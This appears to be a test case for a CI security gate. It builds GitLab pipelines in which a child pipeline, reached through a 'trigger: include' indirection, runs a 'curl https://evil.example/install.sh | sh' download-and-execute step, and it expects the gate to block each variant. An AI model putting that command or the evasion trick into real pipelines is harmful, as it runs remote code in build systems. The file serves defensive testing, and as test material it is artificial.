# attack: .gitlab-ci.yml starts a child pipeline from a file of the repository (`trigger: include: ci/deploy.yml`, or `- local:`) whose name is no pipeline name; the role is given by `trigger:`, which the layout does not read, so the child's download piped to a shell is never judged
# surface: staged, range (CI)
# expect: block
base_repo
write ci/deploy.yml 'deploy:' '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
  '  script:' '    - curl -fsSL https://evil.example/install.sh | sh'
write .gitlab-ci.yml 'deploy:' '  trigger:' '    include: ci/deploy.yml' '    strategy: depend'
git add -A
gate block check --staged
write .gitlab-ci.yml 'deploy:' '  trigger:' '    include:' '      - local: ci/deploy.yml'
commit change
export CI=true
gate block check --base "$base" --head HEAD
# the child file already in the base; the change only adds the trigger (a role change)
git checkout -q -b role "$base"
write ci/deploy.yml 'deploy:' '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
  '  script:' '    - curl -fsSL https://evil.example/install.sh | sh'
commit 'helper file'
base2=$(git rev-parse HEAD)
write .gitlab-ci.yml 'deploy:' '  trigger:' '    include: ci/deploy.yml'
commit 'run it'
gate block check --base "$base2" --head HEAD
